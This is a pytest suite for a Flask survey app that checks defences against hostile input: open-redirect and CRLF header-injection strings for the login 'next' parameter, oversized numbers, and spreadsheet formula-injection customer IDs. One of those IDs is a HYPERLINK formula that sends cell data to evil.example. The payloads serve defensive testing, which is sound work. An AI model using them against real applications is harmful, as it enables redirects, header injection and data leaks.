"""Integrity against hostile input (issue 15, "500s and integrity"): the sign-in `next` target, bounded numbers
in answers and definitions, exports that are complete or absent, formula-guarded link lists, download headers.

Real SQLite and PostgreSQL through the `db_url`/`app` fixtures of tests/webapp/conftest.py; no mocks.
"""

from __future__ import annotations

import html
import re
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from flask import Flask, url_for
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from surveys.definition import build_survey, parse_survey_text
from surveys.errors import InvalidDefinition
from tests.webapp.support.author import page_token, signed_in
from tests.webapp.support.web import EXAMPLE, first_page_token, response_rows
from webapp.accounts.service import create_user
from webapp.app import create_app
from webapp.cli import main
from webapp.services import create_invitations, publish_survey
from webapp.services.errors import HostingError
from webapp.services.export import export_responses
from webapp.storage.engine import create_engine_for, open_session
from webapp.storage.models import Response

PASSWORD = "correct horse battery"


def _csrf(client: FlaskClient, path: str) -> str:
    page = client.get(path).get_data(as_text=True)
    match = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page) or re.search(
        r'value="([^"]+)"[^>]*name="csrf_token"', page)
    assert match, f"no CSRF token on {path}"
    return match.group(1)


def _add_user(app: Flask, email: str, role: str) -> None:
    with open_session(app.config["DATABASE_URL"]) as session:
        create_user(session, email, role, PASSWORD)


def _sign_in(client: FlaskClient, email: str, query: str = "") -> tuple[int, str]:
    token = _csrf(client, "/login")
    response = client.post(f"/login{query}", data={"email": email, "password": PASSWORD, "csrf_token": token})
    return response.status_code, response.headers.get("Location", "")


# --- 1. the sign-in `next` target -------------------------------------------------------------------------

HOSTILE_NEXT = {
    "CR LF": "/%0D%0ASet-Cookie:%20x=1",
    "LF": "/%0Aevil",
    "CR": "/%0Devil",
    "NUL": "/surveys%00",
    "tab": "/%09/evil.example",
    "scheme-relative": "//evil.example",
    "backslash": "/%5Cevil.example",
    "two backslashes": "/%5C%5Cevil.example",
    "DEL": "/x%7F",
}


@pytest.mark.parametrize("target", list(HOSTILE_NEXT.values()), ids=list(HOSTILE_NEXT))
def test_login_refuses_a_hostile_next_and_sends_home(app: Flask, target: str) -> None:
    _add_user(app, "author@example.com", "author")
    status, location = _sign_in(app.test_client(), "author@example.com", f"?next={target}")
    assert status == 302, "a correct password with a hostile next must still sign in, not fail"
    with app.test_request_context():
        home = url_for("author.surveys")
    assert location == home  # the author's home
    assert "evil" not in location and "\r" not in location and "\n" not in location


def test_login_keeps_a_good_next(app: Flask) -> None:
    _add_user(app, "analyst@example.com", "author")
    good = "/author/?page=2"
    status, location = _sign_in(app.test_client(), "analyst@example.com", f"?next={quote(good)}")
    assert status == 302 and location.endswith(good)


# --- 2. bounded numbers ------------------------------------------------------------------------------------

def _count_survey(slug: str = "counts") -> Any:
    return build_survey({
        "id": slug, "title": "Counts",
        "sections": [{"id": "only", "title": "Only page", "questions": [
            {"id": "orders", "type": "number", "text": "How many orders did you place?", "integer": True},
            {"id": "spend", "type": "number", "text": "How much did you spend?"},
        ]}],
    })


def _personal_link(db: Session, survey: Any, customer: str = "C1") -> str:
    publish_survey(db, survey)
    [issued] = create_invitations(db, survey.id, [customer], "email")
    return f"/s/{issued.token}"


@pytest.mark.parametrize("orders", ["1e300", "9223372036854775808", "-9223372036854775808", "1" + "0" * 5000])
def test_integer_answer_beyond_int64_is_refused_with_a_field_message(
        client: FlaskClient, db: Session, db_url: str, orders: str) -> None:
    url = _personal_link(db, _count_survey())
    token = first_page_token(client, url)
    reply = client.post(url, data={"page": "0", "orders": orders, "spend": "12.5", "csrf_token": token})
    html = reply.get_data(as_text=True)
    assert reply.status_code < 500
    assert "9,223,372,036,854,775,807" in html  # the message names the range, beside the field
    assert all(row["status"] != "complete" and "orders" not in (row["answers"] or {})
               for row in response_rows(db_url))


def test_largest_int64_answer_is_kept_and_exports_to_parquet(
        client: FlaskClient, db: Session, db_url: str, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    url = _personal_link(db, _count_survey())
    token = first_page_token(client, url)
    reply = client.post(url, data={"page": "0", "orders": "9223372036854775807", "spend": "1e300",
                                   "csrf_token": token})
    assert reply.status_code == 303, reply.get_data(as_text=True)[:800]
    [row] = response_rows(db_url)
    assert row["answers"]["orders"] == 2**63 - 1 and row["status"] == "complete"
    target = tmp_path / "counts.parquet"
    assert export_responses(db, "counts", target) == 1
    table = pq.read_table(target)
    assert table.column("orders").to_pylist() == [2**63 - 1] and table.column("spend").to_pylist() == [1e300]


@pytest.mark.parametrize("spend", ["inf", "-inf", "nan", "1e400"])
def test_float_answer_must_be_finite(client: FlaskClient, db: Session, db_url: str, spend: str) -> None:
    url = _personal_link(db, _count_survey())
    token = first_page_token(client, url)
    reply = client.post(url, data={"page": "0", "orders": "3", "spend": spend, "csrf_token": token})
    assert reply.status_code < 500 and "expected a finite number" in reply.get_data(as_text=True)
    assert all(row["status"] != "complete" for row in response_rows(db_url))


@pytest.mark.parametrize("budget", [".inf", "-.inf", ".nan", "1e300", "1441"])
def test_time_budget_must_be_finite_and_bounded_at_definition_load(budget: str) -> None:
    text = EXAMPLE.read_text(encoding="utf-8") + f"\ntime_budget_minutes: {budget}\n"
    with pytest.raises(InvalidDefinition) as refused:
        parse_survey_text(text, source="budget.yaml")
    assert "time_budget_minutes" in str(refused.value)


def test_number_bounds_in_a_definition_must_be_finite() -> None:
    with pytest.raises(InvalidDefinition) as refused:
        build_survey({"id": "b", "title": "B", "sections": [{"id": "p", "title": "P", "questions": [
            {"id": "n", "type": "number", "text": "How many?", "max": float("inf")}]}]})
    assert "sections[0].questions[0].max" in str(refused.value)


def test_json_columns_refuse_nan_and_infinity(db: Session) -> None:
    version = publish_survey(db, _count_survey("nans"))
    for bad in (float("nan"), float("inf")):
        db.add(Response(version_id=version.id, session_key=f"k{bad}", status="partial", answers={"spend": bad}))
        with pytest.raises((sa.exc.StatementError, ValueError)) as refused:
            db.flush()  # SQLAlchemy wraps the serialiser's ValueError (SQLite); psycopg raises it as is
        error = refused.value
        assert isinstance(getattr(error, "orig", error), ValueError) and "JSON compliant" in str(error)
        db.rollback()
    assert db.scalar(sa.select(sa.func.count()).select_from(Response)) == 0


# --- 3. exports are complete or absent ---------------------------------------------------------------------

def _answered(db: Session, db_url: str, good: int, bad_orders: str | None) -> None:
    """`good` complete responses of the counts survey, then one whose stored JSON holds `bad_orders` as the
    integer answer (written by SQL, as an older version of cxroi or another program could have)."""
    version = publish_survey(db, _count_survey())
    db.commit()
    engine = create_engine_for(db_url)
    try:
        with engine.begin() as connection:
            insert = sa.text("insert into responses (version_id, session_key, status, answers, current_page, "
                             "started_at, updated_at) values (:v, :k, 'complete', :a, 0, :t, :t)")
            now = datetime(2024, 1, 1)
            connection.execute(insert, [{"v": version.id, "k": f"good{i}", "a": f'{{"orders": {i}}}', "t": now}
                                        for i in range(good)])
            if bad_orders is not None:
                connection.execute(insert, {"v": version.id, "k": "bad", "a": f'{{"orders": {bad_orders}}}',
                                            "t": now})
    finally:
        engine.dispose()


def _folder_listing(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


# int(1e300), as the unbounded integer check used to store it
HUGE = str(int(1e300))


def test_failed_parquet_export_leaves_no_file(db: Session, db_url: str, tmp_path: Path) -> None:
    _answered(db, db_url, 1500, HUGE)  # more than one chunk is written before the bad row is met
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(HostingError) as refused:
        export_responses(db, "counts", folder / "counts.parquet")
    assert "no file was written" in str(refused.value)
    assert _folder_listing(folder) == []  # neither the target nor a temporary file


def test_failed_export_keeps_the_earlier_file(db: Session, db_url: str, tmp_path: Path) -> None:
    _answered(db, db_url, 3, HUGE)
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "counts.parquet"
    target.write_bytes(b"the export of yesterday")
    with pytest.raises(HostingError):
        export_responses(db, "counts", target)
    assert target.read_bytes() == b"the export of yesterday" and _folder_listing(folder) == ["counts.parquet"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet"])
def test_complete_export_leaves_only_the_target(db: Session, db_url: str, tmp_path: Path, suffix: str) -> None:
    _answered(db, db_url, 1200, None)
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / f"counts{suffix}"
    assert export_responses(db, "counts", target) == 1200
    assert _folder_listing(folder) == [target.name] and target.stat().st_size > 0


def test_cli_export_failure_is_a_clear_error_and_no_file(
        db: Session, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    _answered(db, db_url, 5, HUGE)
    monkeypatch.setenv("CXROI_DATABASE_URL", db_url)
    folder = tmp_path / "cli"
    folder.mkdir()
    with pytest.raises(SystemExit) as exited:
        main(["responses", "export", "counts", "-o", str(folder / "counts.parquet")])
    assert exited.value.code != 0
    assert "cannot export responses" in capsys.readouterr().err
    assert _folder_listing(folder) == []


# --- 4. link lists are formula-guarded; downloads are not cached; HSTS over https --------------------------

HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "@SUM(1)", "-2", "C1"]
GUARDED_IDS = ["'" + value if value[0] in "=+-@" else value for value in HOSTILE_IDS]


def _customer_file(path: Path) -> Path:
    import csv

    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id"])
        writer.writerows([value] for value in HOSTILE_IDS)
    return path


def _stored_customer_ids(db_url: str) -> list[str]:
    engine = create_engine_for(db_url)
    try:
        with engine.connect() as connection:
            return list(connection.scalars(sa.text("select customer_id from invitations order by id")))
    finally:
        engine.dispose()


def test_cli_links_csv_guards_formulas(db: Session, db_url: str, tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    import csv

    publish_survey(db, _count_survey())
    db.commit()
    monkeypatch.setenv("CXROI_DATABASE_URL", db_url)
    links = tmp_path / "links.csv"
    try:
        main(["invite", "counts", "--customers", str(_customer_file(tmp_path / "customers.csv")),
              "--channel", "email", "-o", str(links)])
    except SystemExit as done:
        assert not done.code, capsys.readouterr().err
    rows = list(csv.DictReader(links.open(encoding="utf-8")))
    assert [row["customer_id"] for row in rows] == GUARDED_IDS
    assert _stored_customer_ids(db_url) == HOSTILE_IDS  # the stored id (the join key) is unchanged


def test_links_page_csv_guards_formulas_and_is_not_cached(app: Flask, db_url: str) -> None:
    import csv
    import io

    client = signed_in(app, db_url, "author")
    token = page_token(client, "/author/new")
    assert client.post("/author/new", data={"survey_id": "acme", "title": "Acme", "start": "relationship",
                                            "csrf_token": token}).status_code == 302
    assert client.post("/author/acme/publish", data={"csrf_token": token}).status_code == 302
    content = "customer_id\n" + "".join(
        '"' + value.replace('"', '""') + '"\n' for value in HOSTILE_IDS)
    preview = client.post("/author/acme/links/preview", content_type="multipart/form-data", data={
        "csrf_token": token, "channel": "", "customers": (io.BytesIO(content.encode()), "customers.csv")})
    assert preview.status_code == 200, preview.get_data(as_text=True)[:800]
    ids = re.search(r'name="customer_ids"[^>]*value="([^"]*)"', preview.get_data(as_text=True))
    assert ids
    created = client.post("/author/acme/links/create", data={
        "csrf_token": token, "customer_ids": html.unescape(ids.group(1)), "channel": ""})
    assert created.status_code == 200 and created.mimetype == "text/csv"
    assert created.headers["Cache-Control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(created.get_data(as_text=True))))
    assert [row["customer_id"] for row in rows] == GUARDED_IDS
    assert _stored_customer_ids(db_url) == HOSTILE_IDS

    for path in ("/author/acme/definition.yaml", "/author/acme/definition.json", "/author/acme/definition.xlsx",
                 "/author/acme/stored-draft.json"):
        download = client.get(path)
        assert download.status_code == 200 and download.headers["Cache-Control"] == "no-store", path


def test_response_exports_are_not_cached(app: Flask, db: Session, db_url: str) -> None:
    publish_survey(db, _count_survey())
    db.commit()
    client = signed_in(app, db_url, "analyst")
    for kind in ("csv", "xlsx"):
        download = client.get(f"/results/counts/responses.{kind}")
        assert download.status_code == 200, kind
        assert download.headers["Cache-Control"] == "no-store"  # send_file's no-cache would let a cache keep it
        assert "attachment" in download.headers["Content-Disposition"]
        assert "Strict-Transport-Security" not in download.headers  # plain-http test app


def test_hsts_only_when_served_over_https(db_url: str, tmp_path: Path) -> None:
    def app_with(**settings: Any) -> Flask:
        return create_app({"DATABASE_URL": db_url, "INSTANCE_PATH": str(tmp_path / "instance"), "TESTING": True,
                           "SECRET_KEY": "test-secret", **settings})

    secure = app_with(SECURE_COOKIES=True).test_client().get("/login")
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000"
    plain = app_with(SECURE_COOKIES=False).test_client()
    assert "Strict-Transport-Security" not in plain.get("/login").headers
    assert "Strict-Transport-Security" in plain.get("/login", base_url="https://localhost").headers
